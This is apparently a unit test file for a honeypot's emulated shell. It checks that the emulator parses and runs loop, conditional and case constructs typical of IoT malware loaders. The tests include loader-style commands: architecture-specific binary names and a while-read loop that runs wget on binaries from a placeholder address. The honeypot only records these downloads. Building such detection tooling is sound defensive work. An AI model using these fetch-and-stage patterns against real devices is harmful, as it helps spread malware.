// The compound commands loaders use (issue 17 item 5): if/then/elif/else/fi, for ... in ...; do ...;
// done, while/until with read, case ... esac, test/[, field splitting; and their bad forms, bounded
// and counted.

#include <gtest/gtest.h>

#include "honeypot/shell/compound.h"
#include "honeypot/shell/shell.h"
#include "unit/honeypot/shell/persona_fixture.h"

namespace kansoku::honeypot::shell {
namespace {

TEST(CompoundParseTest, FindsReservedWordsOnlyAtCommandStarts) {
    EXPECT_FALSE(parseCompound("echo if for while; ls").compound);
    EXPECT_FALSE(parseCompound("echo 'for x in a; do'").compound);
    EXPECT_TRUE(parseCompound("cd /tmp; for a in x y; do echo $a; done").compound);
    const CompoundParse p = parseCompound("if [ -f x ]; then echo y; elif true; then :; else echo n; fi && echo ok");
    ASSERT_TRUE(p.error.empty()) << p.error;
    ASSERT_EQ(p.seq.size(), 2u);
    EXPECT_EQ(p.seq[0].kind, CompoundNode::Kind::If);
    EXPECT_EQ(p.seq[0].parts.size(), 5u); // cond, body, cond, body, else
    EXPECT_TRUE(p.seq[0].has_else);
    EXPECT_EQ(p.seq[1].connector, Connector::And);
    EXPECT_EQ(p.seq[1].text, "echo ok");
}

TEST(CompoundParseTest, IncompleteAndWrongTextsAreSaidSo) {
    EXPECT_TRUE(parseCompound("for a in x y; do").incomplete);
    EXPECT_TRUE(parseCompound("if true; then echo 'a").incomplete);
    const CompoundParse fi = parseCompound("if true; fi");
    EXPECT_FALSE(fi.incomplete);
    EXPECT_NE(fi.error.find("unexpected \"fi\""), std::string::npos) << fi.error;
    std::string deep;
    for (int i = 0; i < 40; ++i) {
        deep += "if true; then ";
    }
    deep += "echo x";
    for (int i = 0; i < 40; ++i) {
        deep += "; fi";
    }
    EXPECT_NE(parseCompound(deep).error.find("nested too deep"), std::string::npos);
}

TEST(ShellCompoundTest, ForLoopsOverWordsFieldsAndGlobs) {
    Shell shell(testing::routerPersona());
    EXPECT_EQ(shell.run("for a in mips mpsl arm7; do echo bin.$a; done").output, "bin.mips\nbin.mpsl\nbin.arm7\n");
    shell.run("ARCHS='x86 arm'; cd /tmp; touch k.1 k.2");
    EXPECT_EQ(shell.run("for a in $ARCHS; do echo [$a]; done").output, "[x86]\n[arm]\n");
    EXPECT_EQ(shell.run("for f in /tmp/k.*; do echo $f; done").output, "/tmp/k.1\n/tmp/k.2\n");
    EXPECT_EQ(shell.run("for a in \"$ARCHS\"; do echo [$a]; done").output, "[x86 arm]\n");
    // Field splitting of an unquoted expansion in a command's arguments, not of a quoted one.
    EXPECT_EQ(shell.run("w=$(echo a b); printf '%s|%s|\\n' $w; printf '%s|%s|\\n' \"$w\"").output, "a|b|\na b||\n");
}

TEST(ShellCompoundTest, IfElifElseWithTest) {
    Shell shell(testing::routerPersona());
    EXPECT_EQ(shell.run("if [ -d /tmp ]; then echo dir; else echo no; fi").output, "dir\n");
    EXPECT_EQ(shell
                  .run("if [ -f /tmp/nothing ]; then echo yes; elif test \"$(uname -m)\" = mips; then echo mips; "
                       "fi")
                  .output,
              "mips\n");
    EXPECT_EQ(shell.run("n=5; if [ $n -gt 3 -a ! -z \"$n\" ]; then echo big; fi").output, "big\n");
    EXPECT_EQ(shell.run("[ 1 -lt 2 ] && echo lt || echo ge").output, "lt\n");
    ShellResult bad = shell.run("[ 1 -lt");
    EXPECT_NE(bad.output.find("missing ]"), std::string::npos) << bad.output;
    EXPECT_EQ(bad.status, 2);
}

TEST(ShellCompoundTest, CaseOnTheArchitecture) {
    Shell shell(testing::routerPersona());
    const std::string script = "case $(uname -m) in arm*) echo arm;; mips|mipsel) echo mips ;; *) echo other;; esac";
    EXPECT_EQ(shell.run(script).output, "mips\n");
    EXPECT_EQ(shell.run("case x in a) echo a;; esac; echo $?").output, "0\n");
}

TEST(ShellCompoundTest, WhileReadFromAFileAndFromAPipe) {
    Shell shell(testing::routerPersona());
    shell.run("cd /tmp; echo 'http://192.0.2.1/a a.bin' > list; echo 'http://192.0.2.1/b b.bin' >> list");
    ShellResult fetched = shell.run("while read url name; do wget $url -O $name; done < list");
    ASSERT_EQ(fetched.downloads.size(), 2u);
    EXPECT_EQ(fetched.downloads[1].url, "http://192.0.2.1/b");
    EXPECT_EQ(fetched.downloads[1].output_path, "/tmp/b.bin");
    EXPECT_EQ(shell.run("cat list | while read u n; do echo $n; done").output, "a.bin\nb.bin\n");
    EXPECT_EQ(shell.run("i=0; until [ $i -ge 3 ]; do echo $i; i=$((i+1)); done").output, "0\n1\n2\n");
}

TEST(ShellCompoundTest, ScriptsSpanLinesAndTypedLoopsContinue) {
    Shell shell(testing::routerPersona());
    shell.run("cd /tmp; printf 'for a in 1 2\\ndo\\n  echo n$a\\ndone\\nif true\\nthen\\n echo t\\nfi\\n' > s.sh");
    EXPECT_EQ(shell.run("sh s.sh").output, "n1\nn2\nt\n");
    ShellResult first = shell.run("for a in x y; do");
    EXPECT_TRUE(first.continuation);
    EXPECT_TRUE(shell.run("echo [$a]").continuation);
    EXPECT_EQ(shell.run("done").output, "[x]\n[y]\n");
}

TEST(ShellCompoundTest, EndlessLoopsAreBoundedAndCounted) {
    Shell shell(testing::routerPersona());
    ShellResult result = shell.run("while true; do echo x; done; echo after");
    EXPECT_GT(result.limits.get(ShellLimit::Commands), 0u);
    EXPECT_EQ(result.output.find("after"), std::string::npos); // the run stopped at the bound
    ShellResult unterminated = shell.run("sh -c 'if true; then echo x'");
    EXPECT_NE(unterminated.output.find("unexpected end of file"), std::string::npos) << unterminated.output;
}

} // namespace
} // namespace kansoku::honeypot::shell
